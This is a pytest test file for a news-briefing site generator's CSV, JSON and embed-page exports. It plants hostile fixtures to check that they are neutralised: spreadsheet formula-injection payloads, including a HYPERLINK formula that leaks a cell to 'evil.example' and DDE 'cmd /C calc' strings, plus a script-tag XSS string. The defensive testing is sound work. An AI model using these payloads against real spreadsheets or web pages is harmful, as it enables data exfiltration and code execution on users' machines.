"""Readers take the data away and embed the figures: every table, the timeline and the
chart have a CSV file a "Get the data" link leads to, the whole briefing is one JSON
file, and the chart and the timeline have embed pages (no site navigation, header,
footer or search) whose `<iframe>` code their section pages offer.

Built for real from the tiny briefing, with a chart drawn and hostile text in its
fields (spreadsheet formulas, a `<script>`), and once with plain text to compare.
"""

from __future__ import annotations

import csv
import html
import io
import json
import posixpath
import re
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from test_hostile import live_markup

from conftest import TINY_CONTENT, edit, settings_for
from generator.check.briefing import load_content
from generator.content.briefing import EMBED_PREFIX
from generator.core.encode import yaml_json
from generator.core.inline import plain_text
from generator.pipeline import build
from generator.render.pages import render_pages
from pages import parse_html

SITE_URL = "https://news.example/bridge/"
FORMULAS = {  # a text field, and what a spreadsheet would run were it written as it is
    ("tariffs.yml", 'name: "Bridge toll"'): '=HYPERLINK("http://evil.example/?leak="&A1,"Bridge toll")',
    ("tariffs.yml", 'covers: "Vehicles crossing the bridge"'): "-2+3+cmd|' /C calc'!A0",
    ("sources.yml", 'headline: "Council backs bridge"'): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("timeline.yml", 'title: "Work starts"'): "+1+1",
}
SCRIPT = "<script>alert(1)</script> Council votes 7–2"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def data_briefing(folder: Path, hostile: bool) -> Path:
    """The tiny briefing with a chart (its toll has an end date); with `hostile`, formulas
    and markup in its text fields."""
    content = folder / "content"
    shutil.copytree(TINY_CONTENT, content)
    edit(content / "tariffs.yml", '  covers: "', '  until: {date: "2024-05-30"}\n  covers: "')
    if hostile:
        for (file, old), value in FORMULAS.items():
            edit(content / file, old, f"{old.split(':')[0]}: {yaml_json(value)}")
        edit(content / "timeline.yml", 'title: "Council votes 7–2"', f"title: {yaml_json(SCRIPT)}")
    return content


def built(folder: Path, hostile: bool, engine: str = "mkdocs"):
    content = data_briefing(folder, hostile)
    settings = replace(settings_for(content, folder), site_url=SITE_URL)
    if engine == "zensical":  # Zensical takes no absolute docs_dir (tests/test_engines.py)
        text = settings.config_file.read_text(encoding="utf-8").replace(f"docs_dir: {settings.docs_dir}\n", "docs_dir: docs\n")
        settings.config_file.write_text(text, encoding="utf-8")
        settings = replace(settings, engine=engine)
    build(settings)
    return load_content(content), settings.site_dir


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    return built(tmp_path_factory.mktemp("data-hostile"), hostile=True)


@pytest.fixture(scope="module")
def plain_site(tmp_path_factory):
    return built(tmp_path_factory.mktemp("data-plain"), hostile=False)


def read_csv(site: Path, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((site / "data" / name).read_bytes().decode("utf-8"), newline="")))


def page_html(site: Path, folder: str) -> str:
    return (site / folder / "index.html").read_text(encoding="utf-8")


def section(content, kind: str):
    return next(page for page in content.pages if page.kind.name == kind)


# --- CSV -------------------------------------------------------------------------------


def test_every_csv_is_utf8_rfc_4180_with_a_header_row(hostile_site):
    _, site = hostile_site
    files = sorted((site / "data").glob("*.csv"))
    assert len(files) >= 5, [file.name for file in files]
    for file in files:
        data = file.read_bytes()
        assert not data.startswith(b"\xef\xbb\xbf"), f"{file.name}: a byte-order mark"
        text = data.decode("utf-8")
        assert text.count("\n") == text.count("\r\n") and text.endswith("\r\n"), f"{file.name}: lines end in CRLF"
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) >= 2 and all(re.fullmatch(r"[a-z_]+", name) for name in rows[0]), f"{file.name}: {rows[0]}"
        assert {len(row) for row in rows} == {len(rows[0])}, f"{file.name}: rows of different lengths"


def test_the_measures_csv_has_a_row_per_measure_with_raw_numbers_units_iso_dates_and_sources(hostile_site):
    content, site = hostile_site
    measures = section(content, "measures")
    rows = read_csv(site, f"{measures.slug}-table.csv")
    assert [row["id"] for row in rows] == [measure.id for measure in measures.entries]
    for row, measure in zip(rows, measures.entries, strict=False):
        assert float(row["before_value"]) == measure.before.value and row["before_unit"] == measure.before.unit
        assert float(row["now_value"]) == measure.now.value and row["now_unit"] == measure.now.unit
        assert row["since"] == str(measure.since.date) and row["until"] == (str(measure.until.date) if measure.until else "")
        assert row["source_ids"].split("; ") == measure.sources
        assert len(row["source_labels"].split("; ")) == len(measure.sources)


def test_the_chart_csv_holds_the_points_the_chart_draws(hostile_site):
    content, site = hostile_site
    measures = section(content, "measures")
    rows = read_csv(site, f"{measures.slug}-chart.csv")
    for measure in measures.entries:
        points = [row for row in rows if row["measure_id"] == measure.id]
        assert [row["point"] for row in points] == ["since"] + (["until"] if measure.until else [])
        assert {float(row["value"]) for row in points} == {measure.now.value}
        assert points[0]["date"] == str(measure.since.date) and {row["unit"] for row in points} == {measure.now.unit}


def test_the_timeline_csv_lists_the_events_in_date_order(hostile_site):
    content, site = hostile_site
    events = sorted(section(content, "timeline").entries, key=lambda event: event.when.date.earliest)
    rows = read_csv(site, f"{section(content, 'timeline').slug}-events.csv")
    assert [row["id"] for row in rows] == [event.id for event in events]
    assert [row["date"] for row in rows] == [str(event.when.date) for event in events]
    assert SCRIPT in [row["title"] for row in rows], "text stays as typed: a CSV is not HTML"
    assert [row["editor_supplied"] for row in rows] == ["true" if event.when.editor_supplied else "false" for event in events]


def test_the_sources_csvs_list_the_articles_and_who_reports_what(hostile_site):
    content, site = hostile_site
    sources_page = section(content, "sources")
    articles = read_csv(site, f"{sources_page.slug}-articles.csv")
    assert [row["id"] for row in articles] == [source.id for source in content.sources]
    assert [int(row["cited_by"]) for row in articles] == [content.citation_counts[source.id] for source in content.sources]
    shown = parse_html(page_html(site, sources_page.slug)).find("article").text()
    assert all(row["label"].lstrip("'") in shown or plain_text(row["headline"].lstrip("'")) in shown for row in articles)
    facts = read_csv(site, f"{sources_page.slug}-coverage.csv")
    assert facts
    for row in facts:
        assert int(row["reported_by"]) == len(set(row["source_ids"].split("; ")))
        assert row["address"].startswith(SITE_URL), "facts link to the published site"
        folder = row["address"].removeprefix(SITE_URL).split("#")[0]
        assert (site / folder / "index.html").is_file(), f"{row['address']} is no page"


def test_text_a_spreadsheet_would_run_is_written_as_text(hostile_site):
    content, site = hostile_site
    cells = [cell for file in (site / "data").glob("*.csv") for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")) for cell in row]
    for typed in FORMULAS.values():
        assert "'" + typed in cells or "'" + plain_text(typed) in cells, f"{typed!r} is not neutralised"
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell), f"{cell!r} would run as a formula"


# --- JSON ------------------------------------------------------------------------------


def test_briefing_json_holds_every_section_and_source(hostile_site):
    content, site = hostile_site
    raw = (site / "briefing.json").read_bytes()
    assert b"<" not in raw and b">" not in raw, "markup is escaped, even inside a <script> element"
    data = json.loads(raw.decode("utf-8"))
    briefing = content.briefing
    assert (data["title"], data["language"], data["as_of"], data["address"]) == (briefing.title, briefing.language, str(briefing.as_of), SITE_URL)
    assert [(entry["kind"], entry["title"]) for entry in data["sections"]] == [(page.kind.name, page.title) for page in content.pages]
    for entry, page in zip(data["sections"], content.pages, strict=False):
        assert len(entry["entries"]) == len(page.entries), f"{page.title}: entries missing"
        assert entry["address"].startswith(SITE_URL)
        for address in entry.get("data", []) + ([entry["embed"]] if "embed" in entry else []):
            target = site / address.removeprefix(SITE_URL)
            assert target.is_file() or (target / "index.html").is_file(), f"{address} is not on the site"
    assert [source["id"] for source in data["sources"]] == [source.id for source in content.sources]
    assert all({"number", "label", "cited_by", "outlet", "headline"} <= set(source) for source in data["sources"])
    assert not any("archive_file" in json.dumps(entry) for entry in data["sources"])
    timeline = next(entry for entry in data["sections"] if entry["kind"] == "timeline")
    assert SCRIPT in [event["title"] for event in timeline["entries"]], "the text, exactly as the editor typed it"


def test_briefing_json_is_the_standard_libraries_compact_json(hostile_site):
    """The file is what any JSON tool writes compactly, UTF-8 as it is, markup escaped."""
    raw = (hostile_site[1] / "briefing.json").read_text(encoding="utf-8")
    expected = json.dumps(json.loads(raw), ensure_ascii=False, separators=(",", ":"))
    for character, escape in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"), ("\u2028", "\\u2028"), ("\u2029", "\\u2029")):
        expected = expected.replace(character, escape)
    assert raw == expected + "\n"


def test_a_briefing_without_measures_has_its_own_data_and_no_chart(tmp_path):
    storm = load_content(Path(__file__).parent / "briefings" / "storm")
    files = render_pages(storm)
    data = json.loads(files["briefing.json"])
    page = next(entry for entry in data["sections"] if entry["kind"] == "page")
    assert isinstance(page["entries"], str) and page["entries"].strip(), "a Markdown page's text, as written"
    assert not any(name.endswith("-chart.csv") for name in files)
    assert [name for name in files if name.startswith(EMBED_PREFIX)] == [f"{EMBED_PREFIX}{section(storm, 'timeline').slug}.md"]


# --- embed pages -----------------------------------------------------------------------


def embed_folders(site: Path) -> list[str]:
    return sorted(path.name for path in site.iterdir() if path.name.startswith(EMBED_PREFIX))


def test_the_chart_and_the_timeline_have_embed_pages_without_the_site_around_them(hostile_site):
    content, site = hostile_site
    folders = embed_folders(site)
    assert folders == sorted(f"{EMBED_PREFIX}{section(content, kind).slug}" for kind in ("measures", "timeline"))
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    assert not [doc["location"] for doc in index["docs"] if doc["location"].startswith(EMBED_PREFIX)], "embed pages are not searched"
    nav = parse_html(page_html(site, section(content, "measures").slug)).find("nav", cls="md-nav--primary")
    assert not [link for link in nav.find_all("a") if EMBED_PREFIX in link.attrs.get("href", "")], "embed pages are not in the nav"
    for folder in folders:
        document = parse_html(page_html(site, folder))
        around = [
            element.tag
            for element in document.elements()
            if element.classes & {"md-header__inner", "md-sidebar", "md-footer", "md-search", "md-tabs", "md-nav"}
        ]
        assert not around, f"{folder}: {around}"
        assert any(meta.attrs.get("name") == "robots" and meta.attrs.get("content") == "noindex" for meta in document.find_all("meta"))
        assert document.find("article").find("h1")


def test_the_embed_code_on_a_section_page_points_at_its_embed_page(hostile_site):
    content, site = hostile_site
    for kind in ("measures", "timeline"):
        page = section(content, kind)
        code = parse_html(page_html(site, page.slug)).find("details", cls="embed-code").find("code").text()
        frame = parse_html(code).find("iframe")
        assert frame.attrs["src"] == f"{SITE_URL}{EMBED_PREFIX}{page.slug}/"
        assert (site / frame.attrs["src"].removeprefix(SITE_URL) / "index.html").is_file()
        assert frame.attrs["title"] and frame.attrs["height"].isdigit()


def test_without_a_published_address_the_embed_code_points_at_the_embed_page_from_its_own():
    content = load_content(TINY_CONTENT)
    files = render_pages(content)
    timeline = section(content, "timeline")
    src = re.search(r"&lt;iframe src=&quot;([^&]+)&quot;", files[timeline.filename]).group(1)
    assert posixpath.normpath(posixpath.join(timeline.slug, src)) == f"{EMBED_PREFIX}{timeline.slug}"


def test_every_get_the_data_link_leads_to_a_file_of_the_site(hostile_site):
    _, site = hostile_site
    linked = set()
    for page in site.rglob("index.html"):
        for link in parse_html(page.read_text(encoding="utf-8")).find_all("a"):
            if "get-the-data" in (link.parent.classes if link.parent else set()):
                target = (page.parent / link.attrs["href"]).resolve()
                assert target.is_file(), f"{page.relative_to(site)}: {link.attrs['href']} leads nowhere"
                linked.add(target)
    data_files = {path.resolve() for path in (site / "data").glob("*.csv")}
    assert data_files <= linked, f"CSV files no page links to: {sorted(path.name for path in data_files - linked)}"
    assert (site / "briefing.json").resolve() in linked, "the overview links the whole briefing as JSON"


def test_hostile_text_stays_text_on_the_embed_pages(hostile_site, plain_site):
    content, site = hostile_site
    _, plain = plain_site
    for folder in embed_folders(site):
        hostile_html = page_html(site, folder)
        assert live_markup(hostile_html) == live_markup(page_html(plain, folder)), f"{folder}: markup injected"
        assert "<script>alert(1)" not in hostile_html
    timeline = parse_html(page_html(site, f"{EMBED_PREFIX}{section(content, 'timeline').slug}"))
    assert any(SCRIPT in html.unescape(heading.text()) for heading in timeline.find_all("h3")), "shown as the text it is"


def test_zensical_builds_the_same_data_and_embed_pages(tmp_path, hostile_site):
    content, mkdocs_site = hostile_site
    _, site = built(tmp_path, hostile=True, engine="zensical")
    assert sorted(path.name for path in (site / "data").iterdir()) == sorted(path.name for path in (mkdocs_site / "data").iterdir())
    assert (site / "briefing.json").read_bytes() == (mkdocs_site / "briefing.json").read_bytes()
    assert embed_folders(site) == embed_folders(mkdocs_site)
    search = (site / "search.json").read_text(encoding="utf-8")
    for folder in embed_folders(site):
        document = parse_html(page_html(site, folder))
        assert not [element for element in document.elements() if element.classes & {"md-sidebar", "md-footer", "md-search", "md-nav"}]
        assert f'"{folder}/' not in search, f"{folder} is in Zensical's search index"
